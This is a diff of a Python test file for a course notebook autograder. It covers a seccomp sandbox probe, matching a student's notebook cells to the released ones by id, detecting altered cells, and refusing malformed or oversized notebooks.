+        "for f, a in ((os.sched_setaffinity, (0, {0})), (os.memfd_create, ('x',))):\n"
+        "    try:\n        f(*a); print('allowed')\n"
+        "    except OSError as e:\n        print(e.errno)\n"
+        "print(ctypes.CDLL(None, use_errno=True).shmget(0, 4096, 0o1600), ctypes.get_errno())\n"
+        "print(os.getpid() > 0)\n"
+    )
+    argv = ["bwrap", "--unshare-all", "--unshare-user", "--ro-bind", "/", "/", "--dev", "/dev"]
+    proc = subprocess.run(
+        [*argv, "--seccomp", str(read_end), sys.executable, "-I", "-S", "-c", code],
+        pass_fds=(read_end,),
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    os.close(read_end)
+    assert proc.stdout.split() == ["1", "1", "-1", "1", "True"], proc.stderr
+
+
 def _record(nodeid, when, outcome="passed", message=""):
     record = {"nodeid": nodeid, "when": when, "outcome": outcome, "message": message}
     return json.dumps({**record, "duration": 0.1}) + "\n"
@@ -1005,30 +1580,32 @@ def test_a_test_passed_before_a_run_ends_counts_only_once_its_check_failed():
     assert "before the grader's check" in run.failed[GRADED[1]]
 
 
-def _released_notebook() -> nbformat.NotebookNode:
+def _released_notebook() -> dict:
     nb = nbformat.v4.new_notebook()
     for i, source in enumerate(["a = 1", "raise ValueError('allowed')", "b = a + 1"]):
         cell = nbformat.v4.new_code_cell(source)
         cell["id"] = f"cell{i}"
         nb.cells.append(cell)
     nb.cells[1].metadata["tags"] = ["raises-exception"]
-    return nb
+    return json.loads(nbformat.writes(nb))
 
 
 def test_a_notebook_runs_with_the_releases_tags_matched_by_cell_id():
     released = _released_notebook()
-    mine = nbformat.from_dict(json.loads(nbformat.writes(released)))
+    mine = nbformat.from_dict(released)
     mine.cells[0].metadata["tags"] = ["raises-exception"]  # a tag the student added: ignored
     mine.cells[1].metadata["tags"] = []  # a tag the student removed: restored
+    mine.cells[2].source = "b = a + 1  # mine\n"  # a comment and a newline: the same code
     extra = nbformat.v4.new_code_cell("print('mine')")
     extra.metadata["tags"] = ["raises-exception", "skip-execution"]
     mine.cells.insert(1, extra)
-    prepared = notebooks.prepare(nbformat.writes(mine).encode(), released)
+    prepared, nb = notebooks.prepare(nbformat.writes(mine).encode(), released)
     assert prepared.problems == [] and prepared.changed == 0
-    tags = [c.metadata.get("tags", []) for c in prepared.notebook.cells]
+    tags = [c["metadata"].get("tags", []) for c in nb["cells"]]
     assert tags == [[], [], ["raises-exception"], []]
+    nbformat.validate(nbformat.from_dict(nb))  # what the runner reads
     ran = {"cell": 3, "ran": {0: True, 1: True, 2: False, 3: True}, "malformed": None}
-    report = {**ran, "end": {"end": "ok", "ename": "", "evalue": "", "cut": 0}, "notebook": None}
+    report = {**ran, "end": {"end": "ok", "ename": "", "evalue": "", "cut": 0}}
     assert notebooks.judge(prepared, report) == (True, "ok")
     report["ran"][3] = False  # a cell the release does not allow to raise
     assert notebooks.judge(prepared, report)[0] is False
@@ -1036,18 +1613,50 @@ def test_a_notebook_runs_with_the_releases_tags_matched_by_cell_id():
 
 def test_a_notebook_missing_a_released_cell_or_not_a_notebook():
     released = _released_notebook()
-    mine = nbformat.from_dict(json.loads(nbformat.writes(released)))
+    mine = nbformat.from_dict(released)
     del mine.cells[2]
-    prepared = notebooks.prepare(nbformat.writes(mine).encode(), released)
+    prepared, _ = notebooks.prepare(nbformat.writes(mine).encode(), released)
     assert prepared.problems == [
         "cell 3 (`b = a + 1`) of the course's notebook is not in yours (cells are matched by id)"
     ]
-    for junk in (b"{not json", b"\xff\xfe", b"[" * 100_000):
-        prepared = notebooks.prepare(junk, released)
-        assert prepared.notebook is None
+    for junk in (b"{not json", b"\xff\xfe", b"[" * 100_000, b'{"cells": [1]}'):
+        prepared, nb = notebooks.prepare(junk, released)
+        assert nb is None and not prepared.runnable
         assert prepared.problems[0].startswith("the notebook cannot be parsed")
-    report = notebooks.read_report(b'{"cell": 0}\n{"end": "ok"\n')
+    report, _ = notebooks.read_report(b'{"cell": 0}\n{"end": "ok"\n')
     assert report["malformed"] == "line 2"
+
+
+def test_a_released_cell_replaced_by_pass_is_changed_so_the_notebook_did_not_run():
+    released = _released_notebook()
+    mine = nbformat.from_dict(released)
+    mine.cells[2].source = "pass"
+    prepared, nb = notebooks.prepare(nbformat.writes(mine).encode(), released)
+    assert prepared.changed == 1 and prepared.runnable
+    assert prepared.problems == [
+        "cell 3 (`b = a + 1`) of the course's notebook was changed in yours: the course's cells "
+        "must run as released (your own code goes in cells of your own)"
+    ]
+    ran = {"cell": 2, "ran": {0: True, 1: False, 2: True}, "malformed": None}
+    report = {**ran, "end": {"end": "ok", "ename": "", "evalue": "", "cut": 0}}
+    assert notebooks.judge(prepared, report)[0] is False
+
+
+def test_a_huge_notebook_is_refused_by_a_limited_child_in_little_time(tmp_path):
+    released = tmp_path / "released.ipynb"
+    released.write_text(json.dumps(_released_notebook()))
+    mine = tmp_path / "mine.ipynb"
+    cell = '{"cell_type": "code", "id": "c%07d", "metadata": {}, "outputs": [], "source": ""}'
+    mine.write_text('{"cells": [' + ",".join(cell % i for i in range(200_000)) + "]}")
+    t0 = time.perf_counter()
+    prepared = notebooks.prepare_limited(str(mine), str(released), str(tmp_path / "out.ipynb"))
+    assert time.perf_counter() - t0 < 30
+    assert not prepared.runnable and "more than the 2000 graded" in prepared.problems[0]
+    fine = tmp_path / "fine.ipynb"
+    fine.write_text(json.dumps(_released_notebook()))
+    prepared = notebooks.prepare_limited(str(fine), str(released), str(tmp_path / "out.ipynb"))
+    assert prepared.runnable and prepared.problems == [] and prepared.required[1] == (1, True)
+    assert json.loads((tmp_path / "out.ipynb").read_text())["cells"][1]["id"] == "cell1"
 
 
 def test_a_submission_is_read_without_following_links_or_recursing(tmp_path):
